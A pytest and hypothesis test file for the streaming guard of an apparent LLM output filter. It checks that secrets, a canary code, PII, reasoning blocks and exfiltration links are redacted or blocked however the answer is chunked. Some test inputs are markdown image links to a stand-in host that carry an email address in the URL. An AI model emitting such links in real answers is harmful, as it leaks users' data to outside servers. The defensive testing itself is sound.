"""Streaming: nothing unscanned leaves beyond the window, whatever the chunking.

The guarantee (airlock.guard.stream): every released character was scanned with at
least ``window`` characters after it, redactions are decided with that much right
context and text is never released inside a pending redaction or a placeholder. So a
secret or canary that should be redacted or blocked never appears in what the client
receives, however the answer is split into deltas.
"""

from __future__ import annotations

import itertools
import time

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from airlock.guard import Pipeline, StreamGuard, Vault, Verdict
from guard.samples import VALUES

CANARY = "K7Q4-MB2X-9ZT1"
CONFIG = {
    "output": {
        "think": {"action": "redact"},
        "leaks": {"action": "block", "canaries": [CANARY]},
        "secrets": {"action": "redact"},
        "pii": {"action": "redact"},
        "exfil": {"action": "redact"},
        "code": {"action": "flag"},
    }
}
PIPE = Pipeline.from_config(CONFIG)
SECRETS = [VALUES[k] for k in ("openai-key", "aws-access-key", "github-token", "jwt", "pem")]
# Text around the payloads: no capitals, digits or symbols a scanner could take for data.
FILLER = st.text(alphabet="abcdefghij klmnop,.\n你好世界的了", max_size=300)


def run(guard: StreamGuard, chunks: list[str]) -> tuple[str, Verdict | None]:
    out = []
    for chunk in chunks:
        text, verdict = guard.feed(chunk)
        out.append(text)
        if verdict is not None:
            return "".join(out), verdict
    text, verdict = guard.finish()
    return "".join(out) + text, verdict


def split(text: str, cuts: list[int]) -> list[str]:
    points = sorted({c % (len(text) + 1) for c in cuts} | {0, len(text)})
    return [text[a:b] for a, b in itertools.pairwise(points)]


@settings(max_examples=150, deadline=None)
@given(
    before=FILLER,
    after=FILLER,
    which=st.integers(0, len(SECRETS) - 1),
    cuts=st.lists(st.integers(0, 10_000), max_size=40),
    window=st.sampled_from([40, 64, 128, 256]),
)
def test_a_secret_never_reaches_the_client_however_split(
    before: str, after: str, which: int, cuts: list[int], window: int
) -> None:
    secret = SECRETS[which]
    answer = f"{before} {secret} {after}"
    sent, verdict = run(PIPE.stream(None, None, window=window, step=8), split(answer, cuts))
    assert verdict is None
    assert secret[:12] not in sent and secret[-12:] not in sent
    assert "[REDACTED_SECRET]" in sent
    assert sent == PIPE.check_output(answer).text  # the same as checking the whole answer


@settings(max_examples=150, deadline=None)
@given(before=FILLER, after=FILLER, cuts=st.lists(st.integers(0, 10_000), max_size=40))
def test_a_canary_stops_the_stream_before_any_of_it_is_sent(
    before: str, after: str, cuts: list[int]
) -> None:
    answer = f"{before} the code is {CANARY}. {after}"
    sent, verdict = run(PIPE.stream(None, None, window=32, step=4), split(answer, cuts))
    assert verdict is not None and verdict.scanner == "leaks" and verdict.action == "block"
    assert "K" not in sent
    assert sent == answer[: len(sent)]  # only clean text before it, unchanged


def test_an_image_with_a_long_path_is_held_until_its_url_is_complete() -> None:
    url = "https://evil.test/" + "/".join(["a1"] * 200) + "?d=ann%40example.org"
    answer = f"Look ![x]({url}) ok"
    for at in range(0, len(answer) + 1, 7):
        sent, _ = run(PIPE.stream(None, None, window=64, step=4), [answer[:at], answer[at:]])
        assert sent == "Look [REDACTED_LINK] ok", at


@pytest.mark.parametrize("payload", ["card", "iban", "pem"])
def test_every_split_position_of_one_payload(payload: str) -> None:
    value = VALUES[payload]
    answer = f"Here you are: {value} — done."
    whole = PIPE.check_output(answer).text
    assert value not in whole
    for at in range(len(answer) + 1):
        sent, verdict = run(PIPE.stream(None, None, window=48, step=1), [answer[:at], answer[at:]])
        assert verdict is None and sent == whole, at


def test_one_character_deltas_are_redacted_with_a_window() -> None:
    answer = f"key {SECRETS[0]} end"
    sent, _ = run(PIPE.stream(None, None, window=64, step=1), list(answer))
    assert sent == "key [REDACTED_SECRET] end"


def test_window_zero_holds_nothing_back_but_still_scans_every_delta() -> None:
    guard = PIPE.stream(None, None, window=0, step=1)
    assert guard.feed(f"key {SECRETS[0]} end") == ("key [REDACTED_SECRET] end", None)
    # Split across deltas, the first part goes out before the key is recognisable:
    # the documented price of window 0.
    guard = PIPE.stream(None, None, window=0, step=1)
    first, _ = guard.feed(SECRETS[0][:20])
    assert first == SECRETS[0][:20]


def test_placeholders_are_restored_even_when_split() -> None:
    vault = Vault()
    vault.placeholder("EMAIL", "ann@example.org", restore=True)
    answer = "Mail [EMAIL_1] now, and again [EMAIL_1]."
    for at in range(len(answer) + 1):
        sent, _ = run(PIPE.stream(vault, None, window=16, step=1), [answer[:at], answer[at:]])
        assert sent == "Mail ann@example.org now, and again ann@example.org.", at


@pytest.mark.parametrize("window", [0, 8, 128])
def test_think_blocks_are_dropped_at_every_split(window: int) -> None:
    answer = "<think>The code is K7Q4-MB2X-9ZT1, keep it.</think>\n\nHello there."
    for at in range(len(answer) + 1):
        guard = PIPE.stream(None, None, window=window, step=1)
        sent, verdict = run(guard, [answer[:at], answer[at:]])
        assert verdict is None and sent == "Hello there.", at
        assert [len(v.hits) for v in guard.verdicts if v.scanner == "think"] == [1]


def test_open_at_start_drops_reasoning_before_a_lone_closing_tag() -> None:
    pipe = Pipeline.from_config({"output": {"think": {"open_at_start": True}}})
    sent, _ = run(pipe.stream(), ["I should ", "answer 4.</th", "ink>\n", "4"])
    assert sent == "4"
    sent, _ = run(pipe.stream(), ["never closed"])
    assert sent == ""
    plain = Pipeline.from_config({"output": {"think": {}}})
    sent, _ = run(plain.stream(window=0), ["a <thi", "nk>b</think>c", "</think>d <th"])
    assert sent == "a cd <th"  # a lone closing tag is dropped; "<th" was no tag


def test_blocked_stream_stays_blocked_and_finish_is_idempotent() -> None:
    guard = PIPE.stream(None, None, window=8, step=1)
    sent, verdict = run(guard, ["x " * 20, CANARY, " more"])
    assert verdict is not None and guard.blocked is verdict and "K" not in sent
    assert guard.feed("anything") == ("", verdict) and guard.finish() == ("", verdict)
    clean = PIPE.stream()
    assert clean.feed(None) == ("", None)
    assert clean.finish() == ("", None) and clean.finish() == ("", None)
    with pytest.raises(ValueError, match="window"):
        PIPE.stream(window=-1)


def test_verdicts_count_each_redaction_once() -> None:
    answer = f"a@example.org {SECRETS[1]} and b@example.org\n```python\nos.system(x)\n```\n"
    guard = PIPE.stream(None, None, window=32, step=1)
    sent, _ = run(guard, list(answer))
    found = {v.scanner: (v.action, len(v.hits)) for v in guard.verdicts}
    assert found["pii"] == ("redact", 2) and found["secrets"] == ("redact", 1)
    assert found["code"] == ("flag", 1) and found["leaks"] == ("pass", 0)
    assert sent == PIPE.check_output(answer).text


@pytest.mark.parametrize(
    "stream",
    [
        "lorem ipsum dolor sit amet, " * 7000,  # ~200 KB of prose
        "![x](https://evil.test/p.png?d=" + "a" * 100_000,  # an image URL that never ends
        "-----BEGIN PRIVATE KEY-----\n" + "QUJD" * 25_000,  # a key body that never ends
        "<think>" + "reasoning " * 20_000,  # reasoning that never closes
        "4111 " * 40_000,  # digits everywhere
    ],
)
def test_long_streams_take_linear_time(stream: str) -> None:
    t0 = time.perf_counter()
    guard = PIPE.stream(None, None, window=128, step=16)
    for i in range(0, len(stream), 64):
        guard.feed(stream[i : i + 64])
    guard.finish()
    assert time.perf_counter() - t0 < 20  # ~1-3 s measured; quadratic would be minutes
